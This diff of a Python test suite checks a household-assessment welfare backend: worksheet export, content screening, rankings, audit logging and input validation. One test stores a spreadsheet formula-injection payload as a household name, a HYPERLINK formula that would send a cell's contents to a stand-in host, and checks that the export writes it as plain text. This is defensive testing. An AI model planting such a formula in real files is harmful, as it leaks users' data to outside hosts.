@@ -346,19 +346,143 @@ def test_the_worksheet_shows_an_answer_kept_under_an_older_version_whatever_its_
     assert _previous(multi, {"rigid_expenses": []}) == "无"
 
 
-async def test_visit_worksheet_keeps_what_households_typed_as_text(client):
-    """The community is the household's own words; one beginning with '=' must print as text, not
-    run as a formula when the station opens the sheet (formula injection)."""
+async def test_the_worksheet_writes_what_a_household_typed_as_text_never_as_a_formula(client):
+    # A household names itself; a worker opens the sheet in Excel or WPS. Text that starts with "="
+    # must stay text, or the sheet runs it (CSV/formula injection, OWASP).
     import io
 
     from openpyxl import load_workbook
 
     station = await make_station()
     worker = await make_worker(client, station)
-    community = '=HYPERLINK("http://example.invalid/?"&B3,"点击查看")'
-    _, home = await make_resident(client, station, community=community)
-    r = await client.get(f"/api/v1/residents/{home['id']}/visit-worksheet", headers=worker.headers)
+    _, home = await make_resident(client, station, name='=HYPERLINK("http://x.example/"&B4,"点此")',
+                                  community="=1+1")
+    r = await client.get(f"/api/v1/residents/{home['id']}/visit-worksheet", params={"unmasked": "true"},
+                         headers=worker.headers)
     assert r.status_code == 200, r.text
     sheet = load_workbook(io.BytesIO(r.content)).active
-    cell = next(row[1] for row in sheet.iter_rows() if row[0].value == "社区 / 住址")
-    assert cell.value == community and cell.data_type == "s"
+    cells = {row[0].value: row[1] for row in sheet.iter_rows() if row[0].value}
+    assert cells["姓名"].data_type == "s" and cells["姓名"].value == '=HYPERLINK("http://x.example/"&B4,"点此")'
+    assert cells["社区 / 住址"].data_type == "s" and cells["社区 / 住址"].value.startswith("=1+1 ")
+
+
+async def test_a_need_from_a_recommendation_has_its_description_screened_like_any_need(client):
+    # README (content security): need descriptions pass the word list and msgSecCheck, whoever
+    # writes them and through whichever route the need is made.
+    station = await make_station()
+    worker = await make_worker(client, station)
+    _, home = await make_resident(client, station, categories=["独居"])
+    await assess(client, worker, home["id"], HARD)
+    r = await client.post(f"/api/v1/residents/{home['id']}/recommendations/needs",
+                          json={"rule": "alone_disabled", "service_code": "LIVING_MEAL", "description": "想找人一起赌博"},
+                          headers=worker.headers)
+    err = assert_error(r, 422, "CONTENT_RISKY")
+    assert err["details"]["field"] == "description"
+    assert await Need.all().count() == 0
+
+
+async def test_recommendations_survive_an_answer_whose_item_changed_type_in_a_new_version(client):
+    # The rules are fixed config; the questionnaire is published by admins. Once working_adults is
+    # a choice instead of a number, a rule's {"max": 0} cannot hold for it: the rule does not fire,
+    # and the household's recommendations still answer (not a 500).
+    from config.data import QUESTIONNAIRE
+
+    station = await make_station()
+    worker = await make_worker(client, station)
+    admin = await make_admin(client)
+    _, home = await make_resident(client, station, categories=["低保", "独居"])
+    spec = {k: v for k, v in QUESTIONNAIRE.items() if k != "version"}
+    choice = {"id": "working_adults", "type": "single", "label": "家中是否有就业劳动力", "weight": 1,
+              "options": [{"value": "none", "label": "无", "score": 1.0}, {"value": "some", "label": "有", "score": 0.0}]}
+    spec["dimensions"] = [d if d["id"] != "employment" else {**d, "items": [choice]} for d in spec["dimensions"]]
+    r = await client.put("/api/v1/admin/questionnaire", json=spec, headers=admin.headers)
+    assert r.status_code == 201, r.text
+    await assess(client, worker, home["id"], {**HARD, "working_adults": "none"})
+    r = await client.get(f"/api/v1/residents/{home['id']}/recommendations", headers=worker.headers)
+    assert r.status_code == 200, r.text
+    assert [x["rule"] for x in r.json()] == ["alone_disabled", "incapacitated", "poor_sanitation"]
+
+
+async def test_a_household_that_moved_station_is_ranked_by_its_latest_visit_where_it_is_now(client):
+    # The ranking, like the history, the worksheet and the recommendations, is about the household:
+    # its latest visit counts wherever it was made, at the station the household belongs to now.
+    from tests.builders import resident_payload
+
+    a, b = await make_station(), await make_station()
+    worker_a, worker_b = await make_worker(client, a), await make_worker(client, b)
+    s, home = await make_resident(client, a)
+    await assess(client, worker_a, home["id"], HARD)
+    r = await client.put("/api/v1/me/resident", json=resident_payload(b), headers=s.headers)
+    assert r.status_code == 200, r.text
+    board = (await client.get(f"/api/v1/stations/{b.id}/ranking", headers=worker_b.headers)).json()
+    assert [(x["resident_id"], x["score"]) for x in board["items"]] == [(home["id"], 91.54)] and board["unassessed"] == []
+    assert (await client.get(f"/api/v1/stations/{a.id}/ranking", headers=worker_a.headers)).json()["items"] == []
+    admin = await make_admin(client)
+    city = (await client.get("/api/v1/ranking", headers=admin.headers)).json()
+    by_station = {x["station_id"]: x for x in city["stations"]}
+    assert (by_station[b.id]["assessed"], by_station[a.id]["assessed"]) == (1, 0)
+
+
+async def test_a_worker_does_not_assess_their_own_household(client):
+    # The score ranks the household for help and matches policies (任务六): nobody scores
+    # their own need; a colleague visits.
+    from tests.builders import resident_payload
+
+    station = await make_station()
+    worker, colleague = await make_worker(client, station), await make_worker(client, station)
+    r = await client.put("/api/v1/me/resident", json=resident_payload(station), headers=worker.headers)
+    home = r.json()
+    r = await client.post(f"/api/v1/residents/{home['id']}/assessments", json={"answers": HARD, "visited_at": iso(soon(-5))},
+                          headers=worker.headers)
+    assert_error(r, 403, "OWN_ASSESSMENT")
+    assert await Assessment.filter(resident_id=home["id"]).count() == 0
+    await assess(client, colleague, home["id"], HARD)
+
+
+async def test_an_answer_of_infinity_or_nan_is_400_not_500(client):
+    # JSON as Python reads it lets Infinity and NaN through; no JSON column can keep them. An item
+    # published without bounds must still refuse them as numbers.
+    import json
+
+    from config.data import QUESTIONNAIRE
+
+    station = await make_station()
+    worker = await make_worker(client, station)
+    admin = await make_admin(client)
+    _, home = await make_resident(client, station)
+    spec = {k: v for k, v in QUESTIONNAIRE.items() if k != "version"}
+    unbounded = {"id": "working_adults", "type": "number", "label": "就业劳动力人数", "weight": 1,
+                 "brackets": [{"max": 0, "score": 1.0}, {"max": 1, "score": 0.5}, {"max": 10, "score": 0.0}]}
+    spec["dimensions"] = [d if d["id"] != "employment" else {**d, "items": [unbounded]} for d in spec["dimensions"]]
+    assert (await client.put("/api/v1/admin/questionnaire", json=spec, headers=admin.headers)).status_code == 201
+    for bad in ("Infinity", "NaN", "-Infinity"):
+        raw = json.dumps({"answers": {**HARD, "working_adults": 0}, "visited_at": iso(soon(-5))}).replace(
+            '"working_adults": 0', f'"working_adults": {bad}')
+        r = await client.post(f"/api/v1/residents/{home['id']}/assessments", content=raw,
+                              headers={**worker.headers, "content-type": "application/json"})
+        err = assert_error(r, 400, "VALIDATION_ERROR")
+        assert [d["field"] for d in err["details"]] == ["answers.working_adults"], bad
+    assert await Assessment.all().count() == 0
+
+
+async def test_reading_visit_notes_in_a_households_history_is_audited(client):
+    # Visit notes hold health and family details, kept encrypted like the profile's health notes;
+    # every read of them in full leaves an audit row, as an unmasked profile read does (PIPL art. 51).
+    from models import AuditLog
+
+    station = await make_station()
+    worker = await make_worker(client, station)
+    admin = await make_admin(client)
+    _, home = await make_resident(client, station)
+    _, plain = await make_resident(client, station)
+    await assess(client, worker, home["id"], HARD, visit_notes="卧床,子女在外地")
+    await assess(client, worker, plain["id"], MILD)
+    r = await client.get(f"/api/v1/residents/{home['id']}/assessments", headers=worker.headers)
+    assert r.json()[0]["visit_notes"] == "卧床,子女在外地"
+    rows = await AuditLog.filter(action="assessment.read_notes")
+    assert [(a.actor_id, a.subject_type, a.subject_id, a.fields_read) for a in rows] == [
+        (worker.id, "resident", home["id"], ["visit_notes"])]
+    # Nothing read, nothing audited: the administrator's view has no notes, nor has a visit without them.
+    assert (await client.get(f"/api/v1/residents/{home['id']}/assessments", headers=admin.headers)).json()[0]["visit_notes"] is None
+    await client.get(f"/api/v1/residents/{plain['id']}/assessments", headers=worker.headers)
+    assert await AuditLog.filter(action="assessment.read_notes").count() == 1
